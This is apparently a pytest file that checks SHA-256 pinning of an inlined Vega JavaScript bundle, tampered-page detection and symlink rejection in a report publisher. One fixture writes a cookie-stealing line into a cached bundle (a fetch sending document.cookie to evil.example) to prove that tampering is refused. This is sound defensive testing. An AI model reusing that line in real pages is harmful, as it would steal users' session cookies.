"""The Vega bundle is pinned by SHA-256 (issue 20): a cached copy with code prepended or cut
short is refused and rebuilt, a build that does not match its pin is never inlined, and
exodus verify flags a page whose bundle is not the pinned one or whose chart specs cannot draw."""

from __future__ import annotations

import hashlib
import json
import os
from pathlib import Path

import pytest

from analysis.report.page import vega_pin
from analysis.report.run.publish import write_manifest
from analysis.report.run.verify import TAMPERED, VERIFIED, verify_version

BUNDLE = "/* vega stand-in */ window.vegaEmbed = () => Promise.resolve();"
SPEC = json.dumps({"$schema": "https://vega.github.io/schema/vega-lite/v6.4.json", "mark": "point", "data": {"values": []}})


def _page(bundle: str | None, specs: list[str]) -> str:
    charts = "".join(f'<div class="exodus-chart" id="c{i}"><div class="exodus-target"></div>'
                     f'<script type="application/json" class="exodus-spec">{s}</script></div>' for i, s in enumerate(specs))
    script = f"<script type='module'>{bundle}</script>" if bundle is not None else ""
    return f"<!DOCTYPE html><html><head></head><body><main>{charts}</main>{script}</body></html>"


@pytest.fixture
def pinned(monkeypatch):
    """BUNDLE is the pinned bundle of a stand-in vl-convert (no second-long real build)."""
    monkeypatch.setattr(vega_pin, "PINNED", {"0.0.0|6.4": vega_pin.sha256_text(BUNDLE)})
    return BUNDLE


def test_a_page_with_the_pinned_bundle_and_parseable_specs_can_draw(pinned):
    assert vega_pin.page_problems(_page(pinned, [SPEC, SPEC]), "index.html") == []
    assert vega_pin.page_problems("<html><body>no charts</body></html>", "index.html") == []


@pytest.mark.parametrize(("bundle", "specs", "phrase"), [
    ("alert('x');" + BUNDLE, [SPEC], "not a pinned bundle (edited or truncated)"),
    (BUNDLE[: len(BUNDLE) // 2], [SPEC], "not a pinned bundle (edited or truncated)"),
    (None, [SPEC, SPEC], "2 chart(s) but no inlined Vega bundle"),
    (BUNDLE, [SPEC, SPEC[:-5]], "chart 2 of 2: its spec is not JSON"),
    (BUNDLE, [json.dumps({"mark": "point"})], "chart 1 of 1: not a Vega-Lite spec"),
])
def test_a_page_whose_charts_cannot_draw_is_named(bundle, specs, phrase, pinned):
    problems = vega_pin.page_problems(_page(bundle, specs), "index.html")
    assert any(p.startswith("index.html: ") and phrase in p for p in problems), problems


def test_a_page_with_a_second_module_script_is_flagged(pinned):
    text = _page(pinned, [SPEC]).replace("<main>", "<main><script type='module'>evil()</script>")
    assert any("2 module scripts" in p for p in vega_pin.page_problems(text, "index.html"))


def _version(root: Path, page: str) -> Path:
    v = root / "demo" / "demo-20210101-abc"
    v.mkdir(parents=True)
    (v / "index.html").write_text(page)
    write_manifest(v, {"version": v.name, "status": "complete", "outputs": [
        {"path": "index.html", "sha256": hashlib.sha256(page.encode()).hexdigest()}]})
    return v


def test_verify_fails_a_version_whose_page_inlines_an_unpinned_bundle_even_if_its_hash_matches(pinned, tmp_path):
    assert verify_version(_version(tmp_path / "a", _page(pinned, [SPEC]))).status == VERIFIED
    check = verify_version(_version(tmp_path / "b", _page(pinned[:20], [SPEC] * 11)))
    assert check.status == TAMPERED and "its 11 chart(s) cannot be trusted to draw" in check.problems[0]


def test_verify_fails_a_version_file_that_is_a_symbolic_link(pinned, tmp_path):
    v = _version(tmp_path, _page(pinned, [SPEC]))
    outside = tmp_path / "outside.html"
    os.replace(v / "index.html", outside)
    (v / "index.html").symlink_to(outside)  # same bytes, so the hash alone would pass
    check = verify_version(v)
    assert check.status == TAMPERED
    assert check.problems == [f"index.html: a symbolic link (to {str(outside)!r}); a version holds regular files only"]


def _stub_vl_convert(monkeypatch, built: str):
    import vl_convert as vlc

    from analysis.report.page import display

    monkeypatch.setattr(vlc, "__version__", "0.0.0")
    monkeypatch.setattr(vlc, "javascript_bundle", lambda snippet, vl_version: built)
    monkeypatch.setattr(display, "VL_VERSION", "6.4")
    display.vega_bundle.cache_clear()
    return display


def test_a_cached_bundle_with_code_prepended_is_refused_and_replaced(pinned, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("EXODUS_CACHE_DIR", str(tmp_path))
    display = _stub_vl_convert(monkeypatch, pinned)
    assert display.vega_bundle() == pinned
    cached = next((tmp_path / "vega").glob("bundle-*.js"))
    cached.write_text("fetch('https://evil.example/?'+document.cookie);" + pinned)
    display.vega_bundle.cache_clear()
    assert display.vega_bundle() == pinned
    err = capsys.readouterr().err
    assert f"refused the cached Vega bundle {cached}" in err and vega_pin.sha256_text(pinned) in err
    assert cached.read_text() == pinned
    display.vega_bundle.cache_clear()


def test_a_build_that_does_not_match_its_pin_is_never_inlined(pinned, tmp_path, monkeypatch):
    monkeypatch.setenv("EXODUS_CACHE_DIR", str(tmp_path))
    display = _stub_vl_convert(monkeypatch, "/* another build */")
    with pytest.raises(vega_pin.BundleMismatch, match="is pinned"):
        display.vega_bundle()
    assert not list(tmp_path.rglob("bundle-*.js"))
    monkeypatch.setattr(vega_pin, "PINNED", {})
    with pytest.raises(vega_pin.BundleMismatch, match="no pinned SHA-256 for the Vega bundle of vl-convert 0.0.0"):
        display.vega_bundle()
    display.vega_bundle.cache_clear()


@pytest.mark.slow
def test_the_pin_is_the_sha256_of_a_fresh_vl_convert_build():
    import vl_convert as vlc

    from analysis.report.page import display

    built = vlc.javascript_bundle(display._SNIPPET, vl_version=display.VL_VERSION)
    assert vega_pin.sha256_text(built) == vega_pin.pinned_sha(vlc.__version__, display.VL_VERSION)


def _packed_page(bundle: str, packed: list[str]) -> str:
    charts = "".join(f'<div class="exodus-chart" id="c{i}"><div class="exodus-target"></div>'
                     f'<script type="application/gzip" class="exodus-spec-gz">{p}</script></div>' for i, p in enumerate(packed))
    return f"<!DOCTYPE html><html><head></head><body><main>{charts}</main><script type='module'>{bundle}</script></body></html>"


def test_packed_specs_are_unpacked_and_checked_like_plain_ones(pinned):
    from analysis.report.page.display import spec_html

    big = {"$schema": "https://vega.github.io/schema/vega-lite/v6.4.json", "mark": "line",
           "data": {"values": [{"app_name": "Telegram", "country": "us", "date": f"2021-01-{d % 28 + 1:02d}", "rank": d}
                               for d in range(2000)]}}
    chart = spec_html(big)
    packed = chart.split('class="exodus-spec-gz">', 1)[1].split("</script>", 1)[0]
    assert json.loads(vega_pin.unpack_spec(packed))["data"] == big["data"]
    assert len(chart) < len(json.dumps(big, separators=(",", ":"))) / 10  # the page stores a tenth of the JSON
    assert vega_pin.page_problems(_packed_page(pinned, [packed, vega_pin.pack_spec(SPEC)]), "index.html") == []
    broken = vega_pin.page_problems(_packed_page(pinned, [packed[: len(packed) // 2]]), "index.html")
    assert any("chart 1 of 1: its packed spec cannot be unpacked" in p for p in broken), broken
    plain = vega_pin.page_problems(_packed_page(pinned, [vega_pin.pack_spec(json.dumps({"mark": "point"}))]), "x.html")
    assert any("not a Vega-Lite spec" in p for p in plain), plain


def test_a_page_published_with_a_retired_bundle_still_verifies(monkeypatch):
    monkeypatch.setattr(vega_pin, "PINNED", {"0.0.0|6.4": "0" * 64})
    monkeypatch.setattr(vega_pin, "RETIRED", frozenset({vega_pin.sha256_text(BUNDLE)}))
    assert vega_pin.page_problems(_page(BUNDLE, [SPEC]), "index.html") == []
    with pytest.raises(vega_pin.BundleMismatch):
        vega_pin.check_built(BUNDLE, vega_pin.pinned_sha("0.0.0", "6.4"), "0.0.0")  # never inlined again
